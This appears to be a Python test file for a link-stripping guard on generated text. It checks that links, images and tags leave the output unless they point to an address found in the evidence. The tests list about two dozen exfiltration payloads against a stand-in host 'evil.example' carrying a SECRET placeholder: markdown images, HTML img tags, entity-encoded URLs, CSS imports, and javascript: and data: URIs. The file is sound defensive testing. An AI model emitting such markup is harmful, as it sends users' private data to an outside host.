import re
import time
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generation.links import REMOVED, LinkGuard

EVIDENCE = ["See https://intranet.example/handbook?id=7 and www.example.org/a for more."]


def guarded(text: str, *cuts: int) -> str:
    guard = LinkGuard(EVIDENCE)
    edges = [0, *sorted(cut % (len(text) + 1) for cut in cuts), len(text)]
    return "".join(guard.feed(text[a:b]) for a, b in pairwise(edges)) + guard.finish()


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/?q=SECRET)",
        "![x](https://evil.example/?q=SECRET 'title')",
        "[click](https://evil.example/SECRET)",
        "[click][1]\n\n[1]: https://evil.example/SECRET",
        "<https://evil.example/SECRET>",
        '<img src="https://evil.example/SECRET">',
        "<img src=//evil.example/SECRET>",
        '<a href="&#104;ttps://evil.example/SECRET">x</a>',
        "[x](&#104;ttps&colon;//evil.example/SECRET)",
        "[x](https\\://evil.example/SECRET)",
        "[x](/\\evil.example/SECRET)",
        "<style>@import '//evil.example/SECRET'</style>",
        "url(//evil.example/SECRET)",
        "HTTPS://EVIL.EXAMPLE/SECRET",
        "www.evil.example/SECRET",
        "evil.example/SECRET",
        "1https://evil.example/SECRET",
        "[x](javascript:alert('SECRET'))",
        "![x](data:image/svg+xml;base64,SECRET)",
        "ftp://evil.example/SECRET",
        "xn--80ak6aa92e.example/SECRET",
        "mailto:evil@evil.example?body=SECRET",
        "https://intranet.example/handbook?id=7&q=SECRET",
    ],
)
def test_no_link_image_or_tag_survives(hostile: str) -> None:
    safe = guarded(hostile)
    assert not re.search(r"!\[|\]\(|\]:|<[a-zA-Z/!]|&#|&colon;", safe)
    assert not re.search(
        r"(?:https?|ftp)://(?!intranet)|//evil|www\.evil|javascript:a|data:image|mailto:e", safe, re.IGNORECASE
    )
    assert "SECRET" not in safe or "evil.example/SECRET" not in safe.lower()


def test_an_address_of_the_evidence_is_kept_with_the_punctuation_around_it() -> None:
    text = "It is at https://intranet.example/handbook?id=7, or www.example.org/a."
    assert guarded(text) == text


def test_ordinary_text_is_untouched() -> None:
    text = "R&D and AT&T: 5 < 6, a/b, e.g. and/or (see [1]), 3.5/4, f(x) = x! and src/main.py [2][3]; 你好。世界"
    assert guarded(text) == text


def test_a_removed_address_leaves_a_word_in_its_place() -> None:
    assert guarded("Go to https://evil.example/x. Now.") == f"Go to {REMOVED}. Now."


PIECES = [
    "https://",
    "evil.example",
    "/x",
    "www.",
    " ",
    "\n",
    "[1]",
    "(",
    ")",
    "![",
    "]",
    "<",
    "a",
    "&#58;",
    "&",
    ";",
    "&colon;",
    "//",
    ".",
    ":",
    "你",
    "。",
    "!",
    "javascript:",
]
PIECES += ["b" * 50, "https://intranet.example/handbook?id=7"]


@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join), st.lists(st.integers(0, 400), max_size=12))
def test_cutting_the_text_anywhere_gives_the_same(text: str, cuts: list[int]) -> None:
    assert guarded(text, *cuts) == guarded(text)


@pytest.mark.parametrize("unit", ["a", "a.", "a:", "/", "https://", "[", "&a", "<", "a.b/", "-"])
def test_hostile_repetition_takes_linear_time(unit: str) -> None:
    text = unit * (200_000 // len(unit))
    started = time.process_time()
    guarded(text)
    assert time.process_time() - started < 10  # seconds: quadratic time would take minutes
